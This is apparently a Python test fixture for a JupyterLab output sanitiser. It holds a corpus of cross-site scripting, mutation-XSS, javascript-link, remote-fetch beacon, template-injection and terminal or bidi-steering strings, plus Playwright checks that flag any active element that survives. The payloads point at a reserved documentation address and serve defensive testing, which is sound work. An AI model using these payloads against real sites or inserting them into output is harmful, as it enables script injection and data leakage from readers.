"""Texts that would do something if anybody took them for more than text, and what a page must be free of with them.

Each would set `window.owned`, or fetch from ADDRESS.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

ADDRESS = "http://203.0.113.9"  # of a block for documentation: nobody is there
CORPUS = (
    # script
    "<script>window.owned=1</script>",
    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
    "```\n</code></pre><script>window.owned=1</script>\n```",
    # handlers
    '<img src=x onerror="window.owned=1">',
    "<details open ontoggle=window.owned=1>",
    "<input autofocus onfocus=window.owned=1>",
    "\"><b onpointerover='window.owned=1' style='position:fixed;inset:0'>",
    # links
    "[go](javascript:window.owned=1) <javascript:window.owned=1>",
    '<a href="java\tscript:window.owned=1">go</a> [go](&#106;avascript:window.owned=1)',
    "[go](data:text/html,<script>opener.owned=1</script>) [go](vbscript:x) [go](file:///etc/passwd)",
    "\x1b]8;;javascript:window.owned=1\x07go\x1b]8;;\x07",
    r"$\href{javascript:window.owned=1}{go}$ $$\style{background:url(http://203.0.113.9/tex)}{x}$$",
    # remote images and pages
    f"![x]({ADDRESS}/markdown?secret) ![x][r]\n\n[r]: {ADDRESS}/reference",
    f'<img src="{ADDRESS}/img"><img srcset="{ADDRESS}/srcset 2x"><input type=image src="{ADDRESS}/input">',
    f'<video poster="{ADDRESS}/poster"></video><audio src="{ADDRESS}/audio" autoplay></audio>',
    f'<iframe src="{ADDRESS}/frame"></iframe><object data="{ADDRESS}/object"></object><embed src="{ADDRESS}/embed">',
    f'<link rel=stylesheet href="{ADDRESS}/css"><base href="{ADDRESS}/">',
    f'<meta http-equiv=refresh content="0;{ADDRESS}/refresh">',
    f'<form action="{ADDRESS}/form"><button autofocus formaction="javascript:window.owned=1">go</button></form>',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    # SVG, MathML, CSS
    "<svg onload=window.owned=1><script>window.owned=1</script><animate onbegin=window.owned=1 attributeName=x></svg>",
    f'<svg><use href="{ADDRESS}/use#x"/><image href="{ADDRESS}/image"/></svg>',
    '<svg><a href="javascript:window.owned=1"><text>go</text></a></svg>',
    f"<style>* {{ background: url({ADDRESS}/style) }} @import '{ADDRESS}/import'; .kx {{ display: none }}</style>",
    f'<p style="background:url({ADDRESS}/inline);position:fixed;inset:0">over it all</p>',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.owned=1">go</maction></math>',
    # what a parser turns into something else
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=window.owned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=1>",
    "</div></section></details><h1>out of it</h1>",
    "<template><script>window.owned=1</script></template><xmp><p title='</xmp><img src=x onerror=window.owned=1>'>",
    # terminals and readers
    "\x1b[2J\x1b[31mred\x1b[0m \x9b31m \x08\x08 \x00",
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200bzero\ufeff",
    "{{constructor.constructor('window.owned=1')()}} ${window.owned=1} <%= 1 %>",
)
_ACTIVE = """() => {
  const forbidden = new RegExp('^(script|img|iframe|frame|object|embed|link|base|meta|video|audio|template|' +
    'noscript|math|mjx-container)$', 'i'); // the last two: formulas, by JupyterLab itself
  const fetched = /^(xlink:href|src|srcset|action|formaction|poster|data|background)$/i;
  const isActive = (node) => forbidden.test(node.localName) ||
    [...node.attributes].some(({ name, value }) => /^on/i.test(name) || fetched.test(name) ||
      (name === 'href' && !/^(https?:|mailto:|#)/i.test(value.trim())) ||
      (name === 'style' && /url\\(|fixed|expression/i.test(value))) ||
    (node.localName === 'style' && /203\\.0\\.113|@import/.test(node.textContent));
  return [...document.querySelectorAll('.jp-OutputArea *')]
    .filter(isActive)
    .map((node) => node.outerHTML.slice(0, 200));
}"""
_STEERING = r"""() => [...document.querySelectorAll('.jp-OutputArea')].map((node) => node.textContent)
  .flatMap((text) => text.match(/.{0,30}[\x00-\x08\x1b\x9b\u202a-\u202e\u2066-\u2069].{0,20}/gu) || [])"""


def harms(page: Page) -> list[str]:
    """What in an output acts, fetches, is set as a formula or steers who reads it."""
    owned = [] if page.evaluate("window.owned") is None else ["a script has run"]
    return [*owned, *page.evaluate(_ACTIVE), *page.evaluate(_STEERING)]
